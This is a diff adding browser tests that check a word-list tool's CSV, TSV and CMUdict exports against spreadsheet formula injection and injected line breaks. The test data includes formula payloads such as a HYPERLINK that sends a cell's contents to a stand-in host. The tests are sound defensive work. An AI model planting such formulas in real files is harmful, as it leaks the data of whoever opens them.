@@ -1,6 +1,7 @@
 import csv
 import io
 import json
+import re
 from pathlib import Path
 
 import pytest
@@ -85,6 +86,55 @@ def test_a_long_list_goes_in_portions_and_loses_nothing(browser, service):
         assert rows.locator("th").all_text_contents() == ["мир"]
         page.get_by_label("Show").select_option("unsure")
         assert rows.locator("th").first.text_content() == "мир"
+
+
+def recovered(cell):
+    """A cell of a file as it was before its apostrophe."""
+    return cell[1:] if re.match(r"'+\s*[=+\-@＝＋－＠]", cell) else cell
+
+
+def test_no_cell_of_a_file_is_a_formula_and_none_is_lost(browser, service):
+    words = ['=HYPERLINK("http://x.y/?"&A1', "@SUM(1+1", "+1", "-2+3", "＝1", "'=1", "'tis"]
+    with visit(browser, service.url) as page:
+        run_list(page, words)
+        shown = page.locator(".list-table tbody th").all_text_contents()
+        assert shown == words, "and nothing was changed before"
+        _, text = downloaded(page, "CSV")
+        rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
+        _, tsv = downloaded(page, "TSV")
+        tabbed = [line.split("\t") for line in tsv.splitlines()[1:]]
+    for table in (rows, tabbed):
+        assert {len(row) for row in table} == {7}
+        assert not [cell for row in table for cell in row if re.match(r"\s*[=+\-@＝＋－＠]", cell)]
+        assert list(dict.fromkeys(recovered(row[0]) for row in table)) == words
+    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())
+
+
+BREAKS = "\x1c\x1d\x1e\x85"
+
+
+def test_a_line_break_leaves_no_line_of_a_file(browser, service):
+    """What the field of the page does not take for a gap, and what a program may put there."""
+    with visit(browser, service.url) as page:
+        run_list(page, ["hello", *(f"日{each}EVIL" for each in BREAKS)])
+        _, text = downloaded(page, "CMUdict")
+        _, tsv = downloaded(page, "TSV")
+        row = page.evaluate("""async () => {
+            const { FORMATS } = await import(new URL("page/formats.js", document.baseURI));
+            const rows = [..."\\n\\r\\v\\f\\u2028\\u2029"].map((each) => ({
+                word: `a${each}HELLO  B AE D`, failure: `no${each}such`, result: null,
+            }));
+            return Object.values(FORMATS).map(({ write }) => write(rows));
+        }""")
+    made, _, comments = row
+    for written in (text, comments):
+        lines = written.splitlines()
+        assert [line for line in lines if not line.startswith((";;; ", "HELLO"))] == []
+        assert not any("B AE D" in line for line in lines if not line.startswith(";;;"))
+    assert len(comments.splitlines()) == 6
+    assert len(made.splitlines()) == 7
+    assert "a\\u2028HELLO" in made
+    assert len(tsv.splitlines()) == len(tsv.split("\n")) - 1
 
 
 def test_the_dictionary_file_is_in_its_alphabet_whatever_is_shown(browser, service):
